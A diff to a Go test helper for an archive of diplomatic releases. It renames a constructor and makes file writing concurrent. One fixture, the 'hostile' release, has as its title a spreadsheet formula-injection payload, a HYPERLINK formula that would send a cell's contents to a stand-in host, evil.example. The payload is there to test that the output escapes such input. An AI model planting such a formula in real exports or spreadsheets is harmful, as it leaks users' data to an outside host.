@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"cmp"
 	"strings"
+	"sync"
 	"testing"
 
 	"readout/internal/archive"
@@ -42,7 +43,7 @@ type maker struct {
 	rec *record.Record
 }
 
-func make_(t testing.TB, file, text string) *maker {
+func newMaker(t testing.TB, file, text string) *maker {
 	t.Helper()
 	src, err := source.Decode(file, []byte(text))
 	if err != nil {
@@ -128,7 +129,7 @@ func (m *maker) release() archive.Release { return archive.Release{Record: m.rec
 
 // call is a release with everything that a record can hold.
 func call(t testing.TB) *maker {
-	m := make_(t, "call.txt", callText).
+	m := newMaker(t, "call.txt", callText).
 		day("2018-06-18", "June 18", record.Inferred).published("2018-06-19").
 		person("Ada Alba", "Foreign Minister", "AA", "Foreign Minister Ada Alba").
 		person("Bo Brun", "Secretary", "BB", "Secretary Bo Brun").
@@ -147,9 +148,9 @@ func call(t testing.TB) *maker {
 
 // releases are of every sort that data must get right.
 func releases(t testing.TB) []archive.Release {
-	hostile := make_(t, "hostile.txt", callText).title(`=HYPERLINK("https://evil.example/?"&A1,"click") } \ # {`).
+	hostile := newMaker(t, "hostile.txt", callText).title(`=HYPERLINK("https://evil.example/?"&A1,"click") } \ # {`).
 		day("[2013-06-18,2018-06-18]", "June 18", record.Uncertain).party("AA", "Aland", "Aland held")
-	paper := make_(t, "paper.txt", paperText).kind(record.Meeting).day("2018-07-03", "on Tuesday", record.Certain).published("2018-07-04").
+	paper := newMaker(t, "paper.txt", paperText).kind(record.Meeting).day("2018-07-03", "on Tuesday", record.Certain).published("2018-07-04").
 		person("Ada Alba", "Foreign Minister", "AA", "Foreign Minister Ada Alba").person("Bo Brun", "Secretary", "BB", "Secretary Bo Brun").
 		party("AA", "Aland", "Seeby").party("BB", "Beland", "Seeby").
 		topic("sanctions", "Sanctions", "The talks were \"long and cordial\", a person in the room said, and sanctions were on the table from the first minute to the last, although neither of the two ministers would say so when the doors were opened at last.").
@@ -158,10 +159,10 @@ func releases(t testing.TB) []archive.Release {
 	paper.rec.Title.Value = oneLine(strings.SplitN(paperText, "\n", 2)[0])
 	paper.rec.Text = paperText
 	paper.rec.Doubts = []record.Doubt{{Field: "topics", Message: "What was said is not told.", Evidence: paper.find(strings.TrimSpace(strings.Split(paperText, "\n\n")[1]))}}
-	hangul := make_(t, "hangul.txt", hangulText).day("XXXX-06-18", "장관은", record.Inferred).publisher("bb-mfa", "Ministry of Foreign Affairs of Beland", "BB", false).
+	hangul := newMaker(t, "hangul.txt", hangulText).day("XXXX-06-18", "장관은", record.Inferred).publisher("bb-mfa", "Ministry of Foreign Affairs of Beland", "BB", false).
 		party("BB", "Beland", "브룬").party("AA", "Aland", "알바").topic("north", "The North", "北")
 	hangul.rec.Text = strings.Replace(hangul.rec.Text, "통화를", "통화\x01를\ronce\\r", 1)
-	month := make_(t, "month.txt", "Visit planned\n\nThe minister will visit Beland.\n").kind(record.Visit).title("'quoted' \"twice\"").
+	month := newMaker(t, "month.txt", "Visit planned\n\nThe minister will visit Beland.\n").kind(record.Visit).title("'quoted' \"twice\"").
 		day("2019-05", "visit", record.Certain).party("AA", "Aland", "minister").party("BB", "Beland", "Beland")
 	month.rec.Occasions = append(month.rec.Occasions, record.Occasion{Kind: record.Signing, Date: dated(t, "2019-05-30/2019-06-02", record.Uncertain), Parties: []string{"AA", "BB", "EU"}})
 	month.rec.Countries = append(month.rec.Countries, record.Fact[record.Country]{Value: record.Country{Code: "EU", Name: "European Union", Part: record.Party}, Rule: "name", Confidence: record.Certain})
@@ -184,19 +185,25 @@ func sample(t testing.TB) *archive.Archive {
 	return build(t, archive.Options{Title: "Talks of <Aland>", BaseURL: base, Description: "All of them."}, releases(t)...)
 }
 
-// bytesOf writes all files.
+// bytesOf writes all files, all at the same time.
 func bytesOf(t testing.TB, files []File) map[string]string {
 	t.Helper()
+	texts := make([]bytes.Buffer, len(files))
+	errs := make([]error, len(files))
+	var all sync.WaitGroup
+	for i, f := range files {
+		all.Go(func() { errs[i] = f.Write(&texts[i]) })
+	}
+	all.Wait()
 	out := map[string]string{}
-	for _, f := range files {
-		var b bytes.Buffer
-		if err := f.Write(&b); err != nil {
-			t.Fatalf("%s: %v", f.Path, err)
+	for i, f := range files {
+		if errs[i] != nil {
+			t.Fatalf("%s: %v", f.Path, errs[i])
 		}
 		if _, twice := out[f.Path]; twice {
 			t.Fatalf("%s is written twice", f.Path)
 		}
-		out[f.Path] = b.String()
+		out[f.Path] = texts[i].String()
 	}
 	return out
 }
